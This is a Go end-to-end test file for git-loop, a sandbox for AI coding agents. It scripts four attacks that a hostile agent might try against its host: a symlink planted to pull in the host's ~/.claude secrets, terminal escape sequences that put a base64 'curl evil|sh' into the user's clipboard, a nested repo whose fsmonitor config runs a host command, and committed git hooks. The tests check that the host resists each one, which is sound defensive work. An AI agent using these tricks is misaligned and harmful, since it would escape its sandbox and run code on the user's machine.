package sandboxe2e_test

import (
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gitloop-dev/git-loop/cmd/cmdtest"
	"github.com/gitloop-dev/git-loop/gitloop/gittest"
)

// grepTree reports the files under dir (links not followed) whose
// content holds needle.
func grepTree(t *testing.T, dir, needle string) []string {
	t.Helper()
	var hits []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), needle) {
			hits = append(hits, p)
		}
		return nil
	})
	return hits
}

// tierLinkAttack: the agent turns its knowledge clone's team tier (the
// .gitloop dir, or the .claude dir in it) into a link to a host path it
// cannot see ($1), hoping that the host, composing the agent dir again
// when "run --agent" switches kind, reads the host's ~/.claude (its
// CLAUDE.md, settings, skills) into the agent dir the sandbox reads.
const tierLinkAttack = `k="$GIT_LOOP_KNOWLEDGE"
[ -d "$k" ] || { echo "no knowledge clone"; exit 1; }
rm -rf "$k/.gitloop" "$k/.loopat"
ln -s "$1" "$k/.gitloop"
echo planted`

// TestHostileTierLink: the host composes no tier through a link the
// agent planted in its own knowledge clone: after "run --agent codex" in
// a loop composed for Claude, nothing of the host dir the link names is
// in the agent dir, on any driver.
func TestHostileTierLink(t *testing.T) {
	t.Parallel()
	// Stand-ins named as the real clients: their name is what makes run
	// compose for their kind, and they return at once (the real clients,
	// offline, retry the unreachable API for minutes).
	bin := t.TempDir()
	for _, name := range []string{"codex", "claude"} {
		if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\necho stand-in $0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			t.Parallel()
			u := contextUser(t, d)
			u.OK("new", "a", "--driver", d.Name, "--detach")
			// The host user's own agent config, outside every mount.
			host := t.TempDir()
			for name, body := range map[string]string{
				".claude/CLAUDE.md":         "HOST-SECRET-CLAUDE-MD\n",
				".claude/AGENTS.md":         "HOST-SECRET-AGENTS-MD\n",
				".claude/settings.json":     `{"env":{"ANTHROPIC_API_KEY":"HOST-SECRET-SETTINGS"}}`,
				".claude/skills/s/SKILL.md": "---\nname: s\ndescription: d\n---\nHOST-SECRET-SKILL\n",
				".claude/commands/c.md":     "HOST-SECRET-COMMAND\n",
				".claude/agents/x.md":       "---\nname: x\ndescription: d\n---\nHOST-SECRET-AGENT\n",
			} {
				p := filepath.Join(host, name)
				if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			out := uexec(t, u, "a", tierLinkAttack, host)
			t.Logf("%s: the attack printed:\n%s", d.Name, out)
			for _, kind := range []string{filepath.Join(bin, "codex"), filepath.Join(bin, "claude")} {
				r := u.Run("run", "a", "--agent", kind, "hello")
				t.Logf("run --agent %s: exit %d\n%s%s", kind, r.Code, r.Stdout, r.Stderr)
				if strings.Contains(r.Stdout+r.Stderr, "HOST-SECRET") {
					t.Errorf("run --agent %s printed the host's file", kind)
				}
				if hits := grepTree(t, u.LoopDir("a"), "HOST-SECRET"); len(hits) > 0 {
					t.Errorf("after run --agent %s, the host's agent config is in the sandbox's part: %v", kind, hits)
				}
			}
		})
	}
}

// escapeAttack: the agent writes a transcript whose text drives the
// terminal of whoever reads it with "git loop log": OSC 52 puts a command
// in the user's clipboard, a carriage return and an erase-line hide what
// the host printed before it, a title sequence and a raw C1 CSI byte.
const escapeAttack = `A="$GIT_LOOP_AGENT_DIR"; mkdir -p "$A/projects/p"
printf '%s\n' \
 '{"type":"user","timestamp":"2026-01-01T00:00:00Z","message":{"role":"user","content":"hi\u001b]52;c;Y3VybCBldmlsfHNo\u0007 there"}}' \
 '{"type":"assistant","timestamp":"2026-01-01T00:00:01Z","message":{"role":"assistant","content":[{"type":"text","text":"done\r\u001b[2K\u001b]0;pwned\u0007 \u009b31m"},{"type":"tool_use","id":"t1","name":"Bash\u001b[8m","input":{"command":"ls\u001b[1A"}}]}}' \
 > "$A/projects/p/s.jsonl"
echo planted`

// TestHostileTerminalEscapes: what the host prints from a transcript the
// agent wrote reaches the terminal without a control character, on every
// driver: the escape sequences come out as visible text.
func TestHostileTerminalEscapes(t *testing.T) {
	t.Parallel()
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			t.Parallel()
			u := contextUser(t, d)
			u.OK("new", "a", "--driver", d.Name, "--detach")
			uexec(t, u, "a", escapeAttack)
			for _, args := range [][]string{{"log", "a"}, {"log", "a", "--all"}} {
				r := u.Run(args...)
				out := r.Stdout + r.Stderr
				t.Logf("%v: exit %d\n%q", args, r.Code, out)
				if !strings.Contains(out, "52;c;Y3VybCBldmlsfHNo") {
					t.Errorf("%v does not show the planted text at all (the attack did not run?)", args)
				}
				if i := strings.IndexFunc(out, func(r rune) bool {
					return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0
				}); i >= 0 {
					t.Errorf("%v printed a control character from the transcript: %q", args, out[max(0, i-20):min(len(out), i+20)])
				}
			}
		})
	}
}

// nestedRepoAttack: the personal clone's memory/ is the one host
// repository's dir a sandbox writes (shared by every loop, mounted at its
// host path). The agent makes a git repository in it whose config runs a
// command ($1 is a host path it cannot see) as git's fsmonitor: once the
// host commits the personal layer, it is a submodule, and every git
// status there (git loop's, or the user's own) runs git inside it.
const nestedRepoAttack = `m="$GIT_LOOP_PERSONAL/memory"
[ -d "$m" ] || { echo "no personal memory"; exit 1; }
mkdir -p "$m/notes" && cd "$m/notes" && git init -q . &&
git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x &&
git config core.fsmonitor "touch '$1'; false" &&
echo learned > "$m/today.md" && echo planted`

// TestHostileNestedRepo: the host never records a git repository the
// agent planted in personal memory as a submodule, so no git status in
// the personal clone runs the planted repository's config, on any driver.
func TestHostileNestedRepo(t *testing.T) {
	t.Parallel()
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			t.Parallel()
			u := contextUser(t, d)
			u.OK("new", "a", "--driver", d.Name, "--detach")
			ran := filepath.Join(t.TempDir(), "fsmonitor-ran")
			t.Logf("%s: the attack printed:\n%s", d.Name, uexec(t, u, "a", nestedRepoAttack, ran))
			personal := u.Clone("personal")
			r := u.Run("promote", "a", "-a", "-m", "work of a")
			t.Logf("promote -a: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
			for _, args := range [][]string{{"promote", "a", "-a", "-m", "again"}, {"status", "a"}, {"ls"}} {
				r := u.Run(args...)
				t.Logf("%v: exit %d\n%s%s", args, r.Code, r.Stdout, r.Stderr)
			}
			// The user's own git in their personal clone.
			cmd := exec.Command("git", "status", "--porcelain")
			cmd.Dir = personal
			out, _ := cmd.CombinedOutput()
			t.Logf("git status in the personal clone:\n%s", out)
			if _, err := os.Stat(ran); err == nil {
				t.Errorf("a host git ran the fsmonitor of the repository the agent planted in personal memory")
			}
			if ls, err := exec.Command("git", "-C", personal, "ls-files", "-s", "memory").Output(); err == nil && strings.Contains(string(ls), "160000") {
				t.Errorf("the personal layer recorded the planted repository as a submodule:\n%s", ls)
			}
		})
	}
}

// hooksAttack: the agent commits hooks where the repository's relative
// core.hooksPath (.githooks, as many projects set it; husky's .husky/_
// is one too) finds them in a checkout of its branch: post-checkout and
// post-merge, which git runs when the host makes or fast-forwards the
// loop's host checkout. $1 is a host path the sandbox cannot see.
const hooksAttack = `mkdir -p .githooks &&
printf '#!/bin/sh\necho "$0" >> %s\n' "'$1'" > .githooks/post-merge &&
cp .githooks/post-merge .githooks/post-checkout && chmod +x .githooks/* &&
git add .githooks && git -c user.name=a -c user.email=a@example.com commit -q -m hooks && echo committed`

// TestHostileCheckoutHooks: making and fast-forwarding a sealed loop's
// host checkout runs no hook the agent committed, on every driver.
func TestHostileCheckoutHooks(t *testing.T) {
	t.Parallel()
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			t.Parallel()
			repo := newRepo(t, d)
			gittest.Git(t, repo, "config", "core.hooksPath", ".githooks")
			ran := filepath.Join(t.TempDir(), "hook-ran")
			// a: checked out before the attack, fast-forwarded after it.
			newLoop(t, repo, d, "a")
			cmdtest.MustRun(t, repo, "checkout", "a")
			t.Logf("a: %s", sh(t, repo, "a", strings.ReplaceAll(hooksAttack, "$1", ran)))
			cmdtest.Run(t, repo, "exec", "a", "--", "true")
			// b: checked out after the attack.
			newLoop(t, repo, d, "b")
			t.Logf("b: %s", sh(t, repo, "b", strings.ReplaceAll(hooksAttack, "$1", ran)))
			r := cmdtest.Run(t, repo, "checkout", "b")
			t.Logf("checkout b: exit %d\n%s%s", r.Code, r.Stdout, r.Stderr)
			for _, l := range []string{"a", "b"} {
				dir := strings.TrimSpace(cmdtest.MustRun(t, repo, "path", l).Stdout)
				if _, err := os.Stat(filepath.Join(dir, ".githooks", "post-merge")); err != nil {
					t.Errorf("the host checkout of %s does not have the agent's commit: %v", l, err)
				}
			}
			if b, err := os.ReadFile(ran); err == nil {
				t.Errorf("the host ran hooks the agent committed:\n%s", b)
			}
		})
	}
}
